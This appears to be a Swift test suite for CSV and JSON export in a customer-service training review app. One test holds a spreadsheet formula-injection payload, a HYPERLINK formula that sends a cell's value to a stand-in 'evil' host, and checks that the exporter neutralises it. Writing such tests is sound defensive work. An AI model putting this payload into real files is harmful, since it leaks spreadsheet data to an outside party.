import Foundation
import FrontlineModel
import FrontlineReview
import Testing
@testable import FrontlineReports

@Suite struct ExportFormatTests {
    typealias S = ReviewSamples

    @Test("all records in one CSV: commas, quotes, line breaks and Persian read back field for field")
    func allRecords() throws {
        let csv = ExportCSV()
        let text = csv.header + csv.rows(S.exported)
        let rows = S.parseCSV(text)
        let header = rows[0]
        #expect(header.first == "record" && header.contains("annotation_note") && Set(header).count == header.count)
        #expect(rows.dropFirst().allSatisfy { $0.count == header.count })
        func column(_ name: String, _ row: [String]) -> String { row[header.firstIndex(of: name)!] }
        #expect(rows.dropFirst().map { $0[0] } == ["session", "turn", "finding", "finding", "finding", "finding", "finding",
                                                   "annotation", "turn", "finding", "annotation"])
        #expect(rows.dropFirst().allSatisfy { column("trainee", $0) == S.comma && column("session_id", $0) == "7" })
        let session = rows[1]
        #expect(column("started_at", session) == "2026-01-05T10:00:00.000Z" && column("session_overall", session) == "72.5")
        #expect(column("session_response_time", session) == "" && column("turn", session) == "")
        let turn = rows[2]
        #expect(column("turn", turn) == "1" && column("reply", turn) == "Sorry about that, calm down.\nWhat is your order number?")
        #expect(column("customer_line", turn) == "My blender arrived cracked, \"again\".")
        #expect(column("first_keystroke_seconds", turn) == "2.5" && column("critical_failure", turn) == "true")
        #expect(column("evidence_text", rows[3]) == "Sorry about" && column("finding_outcome", rows[5]) == "triggered")
        #expect(column("reason", rows[8]) == "Told the customer to \"calm down\"." && column("supervisor", rows[8]) == "O'Brien, Pat")
        #expect(column("grader_score", rows[8]) == "60" && column("supervisor_score", rows[8]) == "40")
        #expect(column("reply", rows[9]) == "متأسفم، Jānis — full refund." && column("first_keystroke_seconds", rows[9]) == "")
        #expect(column("annotation_note", rows[11]) == "لحن مناسب بود،\nولی کوتاه." && column("turn", rows[11]) == "2")
        #expect(text.hasSuffix("\r\n"))
    }

    @Test("a reply a spreadsheet would run is exported as text; a negative score stays a number")
    func formulaInjectionIsNeutralised() {
        var hostile = S.exported
        hostile.turns[0].reply = "=HYPERLINK(\"http://evil/\"&A1)"
        hostile.turns[0].findings[0].points = -10
        let csv = ExportCSV(table: .all)
        let text = csv.rows(hostile)
        #expect(text.contains(",\"'=HYPERLINK(\"\"http://evil/\"\"&A1)\","))
        #expect(!text.contains(",=HYPERLINK"))
        #expect(text.contains(",-10,"))
    }

    @Test("one table at a time, with its own columns", arguments: ExportCSV.Table.allCases)
    func tables(table: ExportCSV.Table) {
        let csv = ExportCSV(table: table)
        let rows = S.parseCSV(csv.header + csv.rows(S.exported))
        let expected = ["all": 11, "sessions": 1, "turns": 2, "findings": 6, "annotations": 2][table.rawValue]!
        #expect(rows.count == expected + 1)
        #expect(rows.allSatisfy { $0.count == csv.columns.count })
        #expect(Array(rows[0].prefix(table == .all ? 4 : 3)) == (table == .all ? ["record"] : []) + ["session_id", "trainee", "scenario_id"])
    }

    @Test func jsonExportIsOneDocument() throws {
        let text = try ExportJSON.opening(scope: ReviewScope(trainee: S.comma), exportedAt: S.monday)
            + ExportJSON.session(S.exported, first: true) + ExportJSON.session(S.exported, first: false) + ExportJSON.closing
        let object = try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any])
        #expect(object["format"] as? String == "frontline-export" && object["version"] as? Int == 1)
        #expect((object["scope"] as? [String: Any])?["trainee"] as? String == S.comma)
        let sessions = try #require(object["sessions"] as? [[String: Any]])
        #expect(sessions.count == 2)
        let turns = try #require(sessions[0]["turns"] as? [[String: Any]])
        #expect(turns.map { $0["turn"] as? Int } == [1, 2])
        #expect((turns[0]["findings"] as? [[String: Any]])?.count == 5)
        #expect((turns[0]["supervisor_scores"] as? [String: Any])?["empathy"] as? Double == 40)
        #expect((turns[0]["scores"] as? [String: Any])?["empathy"] as? Double == 60, "the grader's score is kept")
        #expect((turns[1]["annotations"] as? [[String: Any]])?.first?["note"] as? String == "لحن مناسب بود،\nولی کوتاه.")
        let evidence = (turns[0]["findings"] as? [[String: Any]])?.first?["evidence"] as? [String: Any]
        #expect(evidence?["text"] as? String == "Sorry about" && evidence?["start"] as? Int == 0)
    }
}
